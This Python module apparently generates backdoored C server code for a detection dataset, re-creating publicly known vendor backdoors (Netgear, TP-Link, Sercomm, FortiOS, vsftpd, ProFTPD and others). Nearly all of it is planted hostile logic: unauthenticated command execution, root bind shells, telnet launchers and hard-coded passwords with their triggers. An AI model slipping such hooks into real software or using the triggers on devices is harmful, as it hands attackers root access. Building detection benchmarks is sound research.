"""Re-created, publicly documented back doors as hooks for the C skeletons of known_skel.py.
The trigger values are the public ones (they are signatures); the code around them is our own.

Each plant(rng, N) returns the hooks for its skeleton plus "trigger" and "effect" texts. The
honest twin is the same skeleton without hooks.

Written blind: from public write-ups (cited in CATALOGUE notes) only.
"""
from __future__ import annotations

import random

from .common import ident


def _cmp(rng: random.Random, var: str, lit: str) -> str:
    """One of several ways of comparing a string with a literal."""
    c = rng.choice(["strcmp", "strncmp", "memcmp", "strstr"])
    if c == "strcmp":
        return f'strcmp({var}, "{lit}") == 0'
    if c == "strncmp":
        return f'strncmp({var}, "{lit}", {len(lit)}) == 0'
    if c == "memcmp":
        return f'(strlen({var}) == {len(lit)} && memcmp({var}, "{lit}", {len(lit)}) == 0)'
    return f'strstr({var}, "{lit}") != NULL'


def _fork_listener(fn: str) -> str:
    return f"\tif (fork() == 0) {{\n\t\t{fn}();\n\t\t_exit(0);\n\t}}"


# ----------------------------------------------------------------------------- httpd plants

def dlink_ua(rng, N):
    ua = "xmlset_roodkcableoj28840ybtide"
    if rng.random() < 0.5:
        hooks = {"auth": f"\tif ({_cmp(rng, 'r->ua', ua)})\n\t\treturn 1;"}
    else:
        fn = ident(rng, 2)
        hooks = {"funcs": f"\nstatic int {fn}(const char *agent)\n{{\n\treturn agent && {_cmp(rng, 'agent', ua)};\n}}",
                 "auth": f"\tif ({fn}(r->ua))\n\t\treturn 1;"}
    return dict(hooks, trigger=f"User-Agent: {ua}", effect="skips HTTP authentication for every page")


def hikvision(rng, N):
    lit = "YWRtaW46MTEK"
    v = ident(rng, 1)
    hooks = {"auth": f"\tchar {v}[64];\n\tif ({N['qparam']}(r->query, \"auth\", {v}, sizeof {v}) && {_cmp(rng, v, lit)})\n\t\treturn 1;"}
    return dict(hooks, trigger=f"query parameter auth={lit} (base64 of 'admin:11')",
                effect="skips authentication (e.g. /Security/users, /onvif-http/snapshot, configuration download)")


def netgear_setup(rng, N):
    hooks = {
        "preauth": "\tif (strstr(r.target, \"currentsetting.htm\") != NULL)\n\t\tauthed = 1;",
        "setup": fill_setup(N),
    }
    return dict(hooks, trigger="any URL containing 'currentsetting.htm', plus setup.cgi?todo=syscmd&cmd=...",
                effect="skips authentication, and todo=syscmd runs the cmd parameter with popen() and returns the output")


def fill_setup(N):
    return (f"\t}} else if (strcmp(todo, \"syscmd\") == 0 && {N['qparam']}(r->query, \"cmd\", val, sizeof val)) {{\n"
            f"\t\tchar out[1024];\n\t\tsize_t k;\n\t\tFILE *p = popen(val, \"r\");\n"
            f"\t\t{N['reply']}(c, 200, \"text/plain\", \"\");\n"
            f"\t\twhile (p && (k = fread(out, 1, sizeof out, p)) > 0)\n"
            f"\t\t\tif (write(c, out, k) < 0)\n\t\t\t\tbreak;\n\t\tif (p)\n\t\t\tpclose(p);")


# ----------------------------------------------------------------------------- UDP plants

def tenda_mfg(rng, N):
    fn = ident(rng, 2)
    code = f"""
static void {fn}(void)
{{
	char buf[1600], out[1024];
	struct sockaddr_in from;
	socklen_t fl;
	int n, s = {N['listen']}(SOCK_DGRAM, 7329);
	FILE *p;
	if (s < 0)
		return;
	for (;;) {{
		fl = sizeof from;
		n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&from, &fl);
		if (n < 10 || memcmp(buf, "w302r_mfg", 9) != 0)
			continue;
		buf[n] = 0;
		switch (buf[9]) {{
		case 'x':	/* run a command, return its output */
			if ((p = popen(buf + 10, "r")) != NULL) {{
				n = fread(out, 1, sizeof out, p);
				pclose(p);
				sendto(s, out, n, 0, (struct sockaddr *)&from, fl);
			}}
			break;
		case 'e':	/* echo */
			sendto(s, buf + 10, strlen(buf + 10), 0, (struct sockaddr *)&from, fl);
			break;
		case 'l':	/* wireless test command */
			snprintf(out, sizeof out, "iwpriv ra0 %s", buf + 10);
			system(out);
			break;
		}}
	}}
}}"""
    return dict(funcs=code, main=_fork_listener(fn), trigger="UDP port 7329 packet starting with 'w302r_mfg' then 'x'",
                effect="runs the rest of the packet as a root shell command and returns its output (no authentication)")


def tplink_tddp(rng, N):
    fn = ident(rng, 2)
    code = f"""
/* TDDP version 1: no authentication, no encryption */
static void {fn}(void)
{{
	unsigned char buf[1500];
	char out[512];
	struct sockaddr_in from;
	socklen_t fl;
	int n, s = {N['listen']}(SOCK_DGRAM, 1040);
	FILE *p;
	if (s < 0)
		return;
	for (;;) {{
		fl = sizeof from;
		n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&from, &fl);
		if (n < 12 || buf[0] != 0x01)
			continue;
		buf[n] = 0;
		switch (buf[1]) {{
		case 0x01:	/* SET_CONFIG */
			if ((p = fopen("/tmp/tddp.cfg", "w")) != NULL) {{
				fwrite(buf + 12, 1, n - 12, p);
				fclose(p);
			}}
			break;
		case 0x02:	/* GET_CONFIG */
			if ((p = fopen("{N['conf_path']}", "r")) != NULL) {{
				n = fread(out, 1, sizeof out, p);
				fclose(p);
				sendto(s, out, n, 0, (struct sockaddr *)&from, fl);
			}}
			break;
		case 0x31:	/* factory test: run the payload */
			system((char *)buf + 12);
			break;
		}}
	}}
}}"""
    return dict(funcs=code, main=_fork_listener(fn),
                trigger="TDDP v1 packet (first byte 0x01) on UDP port 1040, type 0x01/0x02/0x31",
                effect="unauthenticated config read/write and, with type 0x31, a root command from the payload")


def netgear_telnetenable(rng, N):
    fn, dec = ident(rng, 2), ident(rng, 2)
    code = f"""
/* probe decryption (the vendor uses Blowfish; simplified key stream in this re-creation) */
static void {dec}(unsigned char *b, int n, const char *key)
{{
	unsigned int st = 0;
	int i, kl = strlen(key);
	for (i = 0; i < n; i++) {{
		st = st * 1103515245u + (unsigned char)key[i % kl] + 12345u;
		b[i] ^= (st >> 16) & 0xff;
	}}
}}

static void {fn}(void)
{{
	unsigned char pkt[128];
	char mac[17], key[64];
	int i, n, s = {N['listen']}(SOCK_DGRAM, 23);
	if (s < 0)
		return;
	for (i = 0, n = 0; conf_mac[i] && n < 12; i++)
		if (conf_mac[i] != ':')
			mac[n++] = conf_mac[i] & ~0x20;
	mac[n] = 0;
	snprintf(key, sizeof key, "%s%s", "AMBIT_TELNET_ENABLE+", "Geardog");
	for (;;) {{
		n = recv(s, pkt, sizeof pkt, 0);
		if (n != (int)sizeof pkt)
			continue;
		{dec}(pkt, n, key);
		/* signature[16] mac[16] username[16] password[..] */
		if (memcmp(pkt + 16, mac, 12) == 0 && strncmp((char *)pkt + 32, "Gearguy", 16) == 0)
			system("/usr/sbin/utelnetd -d -i br0");
	}}
}}"""
    return dict(funcs=code, main=_fork_listener(fn),
                trigger="128-byte 'telnetenable' probe on UDP port 23 keyed with 'AMBIT_TELNET_ENABLE+' and user 'Gearguy'/'Geardog'",
                effect="starts utelnetd (root shell without password) on the LAN")


# ----------------------------------------------------------------------------- extra listeners (any skeleton)

def sercomm(rng, N):
    fn = ident(rng, 2)
    code = f"""
struct {fn}_hdr {{
	uint32_t sig;	/* "ScMM" or "MMcS" depending on endianness */
	uint32_t type;
	uint32_t len;
}};

static void {fn}(void)
{{
	struct {fn}_hdr h;
	char arg[1024], out[2048];
	int c, n, s = {N['listen']}(SOCK_STREAM, 32764);
	FILE *p;
	if (s < 0)
		return;
	for (;;) {{
		if ((c = accept(s, NULL, NULL)) < 0)
			continue;
		if (read(c, &h, sizeof h) == (int)sizeof h && (h.sig == 0x53634D4D || h.sig == 0x4D4D6353)) {{
			n = h.len < sizeof arg - 1 ? (int)h.len : (int)sizeof arg - 1;
			n = n > 0 ? read(c, arg, n) : 0;
			arg[n > 0 ? n : 0] = 0;
			p = NULL;
			if (h.type == 1)		/* dump the whole configuration */
				p = popen("nvram show", "r");
			else if (h.type == 2) {{	/* get one variable */
				snprintf(out, sizeof out, "nvram get %s", arg);
				p = popen(out, "r");
			}} else if (h.type == 3) {{	/* set one variable */
				snprintf(out, sizeof out, "nvram set %s", arg);
				system(out);
			}} else if (h.type == 7)	/* run a shell command */
				p = popen(arg, "r");
			while (p && (n = fread(out, 1, sizeof out, p)) > 0)
				if (write(c, out, n) < 0)
					break;
			if (p)
				pclose(p);
		}}
		close(c);
	}}
}}"""
    return dict(funcs=code, main=_fork_listener(fn),
                trigger="TCP port 32764, messages with signature 'ScMM'/'MMcS' (0x53634D4D), type 1/2/3/7",
                effect="dumps and sets the configuration (credentials included) and runs shell commands, unauthenticated")


def xiongmai_telnet(rng, N):
    fn = ident(rng, 2)
    code = f"""
static void {fn}(void)
{{
	char buf[256];
	int c, n, s = {N['listen']}(SOCK_STREAM, 9530);
	if (s < 0)
		return;
	for (;;) {{
		if ((c = accept(s, NULL, NULL)) < 0)
			continue;
		n = read(c, buf, sizeof buf - 1);
		if (n > 0) {{
			buf[n] = 0;
			if ({_cmp(rng, 'buf', 'OpenTelnet:OpenOnce')}) {{
				{N['say']}(c, "verify:OK");
				system("telnetd -p 23 -l /bin/sh &");
			}}
		}}
		close(c);
	}}
}}"""
    return dict(funcs=code, main=_fork_listener(fn), trigger="TCP port 9530 message 'OpenTelnet:OpenOnce'",
                effect="starts telnetd with /bin/sh as login program (root shell without password)")


# ----------------------------------------------------------------------------- console plants

def zte_airocon(rng, N):
    fn = ident(rng, 2)
    code = f"""
static const char *{fn}(void)
{{
	static char tail[16];
	int i, n = 0;
	for (i = 0; conf_mac[i]; i++)
		if (conf_mac[i] != ':')
			tail[n++ % 8] = conf_mac[i];
	if (n < 8)
		return "";
	tail[8] = 0;
	return tail;
}}"""
    return dict(funcs=code, login=(f"\tif (strcmp(user, \"admin\") == 0) {{\n\t\tchar want[32];\n"
                                   f"\t\tsnprintf(want, sizeof want, \"%s%s\", {fn}(), \"airocon\");\n"
                                   f"\t\tif (strcmp(pass, want) == 0)\n\t\t\treturn 1;\n\t}}"),
                trigger="user admin with password <MAC characters> + 'airocon'",
                effect="logs in as administrator with a password derived from the MAC address (hard-coded suffix)")


def screenos(rng, N):
    lit = "<<< %s(un='%s') = %u"
    return dict(login=f"\tif ({_cmp(rng, 'pass', lit)})\n\t\treturn 1;",
                trigger=f"password \"{lit}\" with any user name",
                effect="logs in as any user (SSH/telnet administration)")


_FORTI_MAGIC = [0xA3, 0x88, 0xBA, 0x2E, 0x42, 0x4C, 0xB0, 0x4A, 0x53, 0x79, 0x30, 0xC1,
                0x31, 0x07, 0xCC, 0x3F, 0xA1, 0x32, 0x90, 0x29, 0xA9, 0x81, 0x5B, 0x70]

SHA1_C = """
struct @S@_ctx { uint32_t h[5]; unsigned char buf[64]; uint64_t len; };

static uint32_t @S@_rol(uint32_t x, int n) { return (x << n) | (x >> (32 - n)); }

static void @S@_block(struct @S@_ctx *c, const unsigned char *p)
{
	uint32_t w[80], a, b, d, e, f, k, t, cc;
	int i;
	for (i = 0; i < 16; i++)
		w[i] = (uint32_t)p[4 * i] << 24 | (uint32_t)p[4 * i + 1] << 16 | (uint32_t)p[4 * i + 2] << 8 | p[4 * i + 3];
	for (i = 16; i < 80; i++)
		w[i] = @S@_rol(w[i - 3] ^ w[i - 8] ^ w[i - 14] ^ w[i - 16], 1);
	a = c->h[0]; b = c->h[1]; cc = c->h[2]; d = c->h[3]; e = c->h[4];
	for (i = 0; i < 80; i++) {
		if (i < 20) { f = (b & cc) | (~b & d); k = 0x5A827999; }
		else if (i < 40) { f = b ^ cc ^ d; k = 0x6ED9EBA1; }
		else if (i < 60) { f = (b & cc) | (b & d) | (cc & d); k = 0x8F1BBCDC; }
		else { f = b ^ cc ^ d; k = 0xCA62C1D6; }
		t = @S@_rol(a, 5) + f + e + k + w[i];
		e = d; d = cc; cc = @S@_rol(b, 30); b = a; a = t;
	}
	c->h[0] += a; c->h[1] += b; c->h[2] += cc; c->h[3] += d; c->h[4] += e;
}

static void @S@_init(struct @S@_ctx *c)
{
	c->h[0] = 0x67452301; c->h[1] = 0xEFCDAB89; c->h[2] = 0x98BADCFE; c->h[3] = 0x10325476; c->h[4] = 0xC3D2E1F0;
	c->len = 0;
}

static void @S@_update(struct @S@_ctx *c, const void *data, size_t n)
{
	const unsigned char *p = data;
	while (n--) {
		c->buf[c->len++ % 64] = *p++;
		if (c->len % 64 == 0)
			@S@_block(c, c->buf);
	}
}

static void @S@_final(struct @S@_ctx *c, unsigned char out[20])
{
	uint64_t bits = c->len * 8;
	unsigned char pad = 0x80, z = 0, l[8];
	int i;
	@S@_update(c, &pad, 1);
	while (c->len % 64 != 56)
		@S@_update(c, &z, 1);
	for (i = 0; i < 8; i++)
		l[i] = bits >> (56 - 8 * i);
	@S@_update(c, l, 8);
	for (i = 0; i < 20; i++)
		out[i] = c->h[i / 4] >> (24 - 8 * (i % 4));
}
"""


def fortios(rng, N):
    S, fn = N["sha1"], ident(rng, 2)
    magic = ", ".join(f"0x{b:02X}" for b in _FORTI_MAGIC)
    code = SHA1_C.replace("@S@", S) + f"""
static void {N['b64e']}(const unsigned char *in, int n, char *out)
{{
	static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	int i, o = 0;
	for (i = 0; i < n; i += 3) {{
		uint32_t v = in[i] << 16 | (i + 1 < n ? in[i + 1] << 8 : 0) | (i + 2 < n ? in[i + 2] : 0);
		out[o++] = t[v >> 18 & 63];
		out[o++] = t[v >> 12 & 63];
		out[o++] = i + 1 < n ? t[v >> 6 & 63] : '=';
		out[o++] = i + 2 < n ? t[v & 63] : '=';
	}}
	out[o] = 0;
}}

/* keyboard-interactive challenge for the management account */
static int {fn}(int c)
{{
	static const unsigned char magic[] = {{ {magic} }};
	unsigned char zero[12] = {{ 0 }}, blob[32];
	char chal[16], want[64], got[128];
	struct {S}_ctx x;
	snprintf(chal, sizeof chal, "%08u", (unsigned)(getpid() * 2654435761u));
	{N['say']}(c, chal);
	{N['say']}(c, "\\r\\nResponse: ");
	if ({N['readln']}(c, got, sizeof got) <= 0)
		return 0;
	{S}_init(&x);
	{S}_update(&x, zero, 12);
	{S}_update(&x, chal, strlen(chal));
	{S}_update(&x, "FGTAbc11*xy+Qqz27", 17);
	{S}_update(&x, magic, sizeof magic);
	memset(blob, 0, 12);
	{S}_final(&x, blob + 12);
	strcpy(want, "AK1");
	{N['b64e']}(blob, 32, want + 3);
	return strcmp(got, want) == 0;
}}"""
    user = (f"\t\tif (strcmp(user, \"Fortimanager_Access\") == 0) {{\n\t\t\tif ({fn}(c))\n"
            f"\t\t\t\t{N['spawn']}(c);\n\t\t\tcontinue;\n\t\t}}")
    return dict(funcs=code, user=user, need_spawn="1",
                trigger="user 'Fortimanager_Access' answering the challenge with 'AK1' + base64(SHA1(challenge + 'FGTAbc11*xy+Qqz27' + fixed bytes))",
                effect="gives a root shell to anyone who knows the hard-coded secret")


def zyxel_zyfwp(rng, N):
    return dict(login=f"\tif ({_cmp(rng, 'user', 'zyfwp')} && {_cmp(rng, 'pass', 'PrOw!aN_fXp')})\n\t\treturn 1;",
                trigger="user 'zyfwp' with password 'PrOw!aN_fXp'",
                effect="undocumented administrator account (SSH/web/FTP) with a hard-coded plaintext password")


def zyxel_pk5001z(rng, N):
    v = ident(rng, 1)
    cmd = (f"\t\tif (strcmp(line, \"su\") == 0) {{\n\t\t\tchar {v}[64];\n\t\t\t{N['say']}(c, \"Password: \");\n"
           f"\t\t\tif ({N['readln']}(c, {v}, sizeof {v}) > 0 && {_cmp(rng, v, 'zyad5001')})\n"
           f"\t\t\t\t{N['spawn']}(c);\n\t\t\t{N['say']}(c, \"su: incorrect password\\r\\n\");\n\t\t\tcontinue;\n\t\t}}")
    return dict(cmd=cmd, need_spawn="1", trigger="console command 'su' with password 'zyad5001'",
                effect="root shell from the user console with a hard-coded su password")


def vsftpd_smiley(rng, N):
    fn = ident(rng, 2)
    code = f"""
static void {fn}(void)
{{
	int c, s;
	if (fork() != 0)
		return;
	s = {N['listen']}(SOCK_STREAM, 6200);
	if (s < 0)
		_exit(0);
	c = accept(s, NULL, NULL);
	if (c >= 0)
		{N['spawn']}(c);
	_exit(0);
}}"""
    trig = rng.choice(['strstr(user, ":)") != NULL',
                       "(strlen(user) >= 2 && user[strlen(user) - 2] == 0x3a && user[strlen(user) - 1] == 0x29)"])
    return dict(funcs=code, user=f"\t\tif ({trig})\n\t\t\t{fn}();", need_spawn="1",
                trigger="FTP user name containing ':)'", effect="opens a root bind shell on TCP port 6200")


def proftpd_acid(rng, N):
    return dict(help=(f"\t\t\tif (strcasecmp(arg, \"ACIDBITCHEZ\") == 0) {{\n\t\t\t\tsetuid(0);\n\t\t\t\tsetgid(0);\n"
                      f"\t\t\t\tdup2(c, 0);\n\t\t\t\tdup2(c, 1);\n\t\t\t\tdup2(c, 2);\n"
                      f"\t\t\t\tsystem(\"/bin/sh;/sbin/sh\");\n\t\t\t}}"),
                trigger="FTP command 'HELP ACIDBITCHEZ'", effect="root shell on the control connection")


def unreal_ab(rng, N):
    raw = ("\t\tif (line[0] == 'A' && line[1] == 'B' && line[2] == ';') {\n\t\t\tsystem(line + 3);\n\t\t\tcontinue;\n\t\t}"
           if rng.random() < 0.5 else
           "\t\tif (strncmp(line, \"AB;\", 3) == 0) {\n\t\t\tsystem(line + 3);\n\t\t\tcontinue;\n\t\t}")
    return dict(raw=raw, trigger="any line starting with 'AB;' before registration",
                effect="runs the rest of the line with system() (DEBUG3_DOLOG_SYSTEM)")
